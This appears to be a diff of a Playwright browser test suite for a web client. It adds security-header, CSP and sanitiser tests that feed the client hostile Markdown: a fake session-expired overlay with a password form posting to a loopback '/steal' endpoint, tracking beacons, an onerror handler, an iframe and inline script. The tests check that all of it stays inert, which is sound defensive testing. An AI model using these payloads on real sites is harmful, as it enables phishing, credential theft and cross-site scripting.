@@ -1,74 +1,14 @@
 """The web client in a real browser (Debian's Chromium driven by Playwright)
 against the whole local stack: what a person does, step by step."""
+import json
 import re
-import shutil
+import threading
 import time
-from pathlib import Path
 
 import pytest
 
-CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
-TIMEOUT_MS = 20_000
-WEB = Path(__file__).resolve().parent.parent / "web"
-
-
-@pytest.fixture(scope="module")
-def browser():
-    if CHROMIUM is None:
-        pytest.skip("Chromium is not installed (make test installs Debian's chromium "
-                    "when it runs as root with apt-get)")
-    from playwright.sync_api import sync_playwright
-    with sync_playwright() as playwright:
-        launched = playwright.chromium.launch(executable_path=CHROMIUM, args=[
-            "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-sync",
-            "--disable-background-networking", "--disable-component-update"])
-        yield launched
-        launched.close()
-
-
-@pytest.fixture
-def new_page(browser, stack):
-    contexts = []
-
-    def open_page():
-        context = browser.new_context(base_url=stack.url)
-        context.set_default_timeout(TIMEOUT_MS)
-        contexts.append(context)
-        page = context.new_page()
-        page.goto("/")
-        return page
-
-    yield open_page
-    for context in contexts:
-        context.close()
-
-
-def register(page, name="Ada Lovelace"):
-    email = f"web-{time.monotonic_ns()}@example.com"
-    form = page.locator("#register-form")
-    form.get_by_label("Name").fill(name)
-    form.get_by_label("Email").fill(email)
-    form.get_by_label("Password").fill("password123")
-    form.get_by_role("button", name="Register").click()
-    page.locator("#who").filter(has_text=name).wait_for()
-    return email
-
-
-def add_item(page, title, body, kind="Blog Post Outline"):
-    form = page.locator("#create-form")
-    form.get_by_label("Title").fill(title)
-    form.get_by_label("Type").select_option(kind)
-    form.get_by_label("Body (Markdown)").fill(body)
-    form.get_by_role("button", name="Add to library").click()
-    page.locator("#library .item", has_text=title).wait_for()
-
-
-def generate(page, prompt):
-    form = page.locator("#generate-form")
-    form.get_by_label("What should it be about?").fill(prompt)
-    form.get_by_label("Content type").select_option("Product Description")
-    form.get_by_role("button", name="Generate").click()
-    return page.locator("#jobs .job", has_text=prompt)
+from tests.support import ROOT
+from tests.support.web import TIMEOUT_MS, add_item, generate, register
 
 
 def test_a_person_registers_and_manages_the_library(new_page):
@@ -82,7 +22,7 @@ def test_a_person_registers_and_manages_the_library(new_page):
         .inner_text() == "everywhere"
 
     page.get_by_label("Search the library").fill("sunny")
-    page.wait_for_function("document.querySelectorAll('#library .item').length === 1")
+    page.wait_for_function("() => document.querySelectorAll('#library .item').length === 1")
     assert page.locator("#library .item h3").all_inner_texts() == ["Summer campaign"]
 
     item = page.locator("#library .item", has_text="Summer campaign")
@@ -227,7 +167,7 @@ def test_the_docs_page_renders_the_api_description_offline(browser, stack):
 
 def test_every_module_of_the_client_is_served_as_javascript(stack):
     import requests
-    modules = sorted(WEB.glob("*.js"))
+    modules = sorted((ROOT / "web").glob("*.js"))
     served = {module.name: requests.get(f"{stack.url}/{module.name}", timeout=5)
               for module in modules}
     assert {name: (response.status_code, response.headers["Content-Type"])
@@ -252,7 +192,9 @@ def test_the_type_selects_fill_when_the_api_description_arrives(browser, stack):
         while not held:
             page.wait_for_timeout(50)
         held[0].continue_()
-        page.wait_for_function("[...document.querySelectorAll('select.content-types')]"
+        # A function, not an expression: the page's CSP forbids the eval an
+        # expression would need.
+        page.wait_for_function("() => [...document.querySelectorAll('select.content-types')]"
                                ".every((select) => select.options.length > 0)")
         assert [select.locator("option").all_inner_texts()
                 for select in selects.all()] == [listed, listed]
@@ -365,3 +307,143 @@ def wait_for_job_finished(url, token, job_id, timeout=20):
             return job
         time.sleep(0.2)
     raise AssertionError(f"job {job_id} did not finish")
+
+
+SECURITY_HEADERS = json.loads((ROOT / "infra" / "web-headers.json").read_text())
+
+
+@pytest.mark.parametrize("path", ["/", "/app.js", "/style.css", "/vendor/purify.es.js"])
+def test_the_client_and_its_assets_are_served_with_the_security_headers(stack, path):
+    import requests
+    response = requests.get(f"{stack.url}{path}", timeout=5)
+    assert response.status_code == 200
+    assert {name: response.headers.get(name) for name in SECURITY_HEADERS} == SECURITY_HEADERS
+
+
+def test_the_policy_is_strict(stack):
+    policy = dict(directive.strip().split(" ", 1) for directive in
+                  SECURITY_HEADERS["Content-Security-Policy"].split(";"))
+    assert (policy["default-src"], policy["script-src"], policy["style-src"],
+            policy["img-src"], policy["frame-ancestors"]) == \
+        ("'self'", "'self'", "'self'", "'self' data:", "'none'")
+
+
+class Remote:
+    """A loopback server standing in for somewhere else on the internet; it
+    records every request that reaches it."""
+
+    def __init__(self):
+        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+        requests = self.requests = []
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self):
+                requests.append(self.path)
+                self.send_response(204)
+                self.end_headers()
+
+            do_POST = do_GET
+
+            def log_message(self, *args):
+                pass
+
+        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self._server.server_port}"
+        threading.Thread(target=self._server.serve_forever, daemon=True).start()
+
+    def stop(self):
+        self._server.shutdown()
+        self._server.server_close()
+
+
+@pytest.fixture
+def remote():
+    started = Remote()
+    yield started
+    started.stop()
+
+
+def hostile_markdown(remote_url):
+    return ("\n\n<style>body { background: rgb(255, 0, 0) }</style>\n\n"
+            '<div class="overlay" style="position: fixed; inset: 0; '
+            'background: rgb(0, 0, 255)">Session expired</div>\n\n'
+            f'<form action="{remote_url}/steal"><input name="password" type="password">'
+            "<button>Log in again</button></form>\n\n"
+            f'<img alt="beacon" src="{remote_url}/beacon.png">'
+            f'<img alt="set" srcset="{remote_url}/set.png 2x">'
+            '<img alt="broken" src="x" onerror="window.pwned = 1">\n\n'
+            f'<iframe src="{remote_url}/frame"></iframe>'
+            f'<video poster="{remote_url}/poster.png"></video>\n\n'
+            "<script>window.pwned = 2</script>\n\n"
+            '<img alt="inline" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">')
+
+
+def watched(page):
+    """The page's dialogs, and its body's background before anything
+    hostile arrived."""
+    dialogs = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    return dialogs, page.evaluate("getComputedStyle(document.body).backgroundColor")
+
+
+def assert_inert(page, box, remote, dialogs, background):
+    box.locator("img[alt=inline]").wait_for(state="attached")
+    page.wait_for_timeout(500)
+    assert box.locator("style, form, input, button, iframe, script, [style], [srcset], "
+                       "[onerror]").count() == 0
+    assert box.locator("img[alt=beacon]").get_attribute("src") is None
+    assert box.locator("video").get_attribute("poster") is None
+    assert box.locator("img[alt=inline]").get_attribute("src").startswith("data:image/gif")
+    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == background
+    assert (page.evaluate("window.pwned"), dialogs, remote.requests) == (None, [], [])
+
+
+def test_hostile_markdown_in_a_generated_result_does_nothing(new_page, remote):
+    page = new_page()
+    register(page)
+    dialogs, background = watched(page)
+    marker = f"Hostile result {time.monotonic_ns()}"
+    form = page.locator("#generate-form")
+    form.get_by_label("What should it be about?").fill(marker + hostile_markdown(remote.url))
+    form.get_by_role("button", name="Generate").click()
+    job = page.locator("#jobs .job", has_text=marker)
+    job.locator(".status.completed").wait_for()
+    assert_inert(page, job.locator(".markdown"), remote, dialogs, background)
+
+
+def test_hostile_markdown_in_a_library_item_does_nothing(new_page, remote):
+    page = new_page()
+    register(page)
+    dialogs, background = watched(page)
+    add_item(page, "Hostile item", "Notes" + hostile_markdown(remote.url))
+    box = page.locator("#library .item", has_text="Hostile item").locator(".markdown")
+    assert_inert(page, box, remote, dialogs, background)
+
+
+def test_the_policy_refuses_inline_script_and_remote_images_past_the_sanitiser(new_page,
+                                                                              remote):
+    page = new_page()
+    ran = page.evaluate(f"""() => new Promise((resolve) => {{
+        const script = document.createElement("script");
+        script.textContent = "window.inline = 1";
+        document.head.append(script);
+        const image = new Image();
+        image.onload = image.onerror = () => resolve(window.inline ?? null);
+        image.src = "{remote.url}/beacon.png";
+    }})""")
+    page.wait_for_timeout(300)
+    assert (ran, remote.requests) == (None, [])
+
+
+def test_the_client_works_under_its_policy_without_a_violation(new_page):
+    page = new_page()
+    violations = []
+    page.on("console", lambda message: "Content Security Policy" in message.text
+            and violations.append(message.text))
+    register(page)
+    page.locator("#socket-state", has_text="live").wait_for()
+    add_item(page, "Under the policy",
+             "**bold** and ![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=)")
+    job = generate(page, "Policy prompt")
+    job.locator(".status.completed").wait_for()
+    assert violations == []
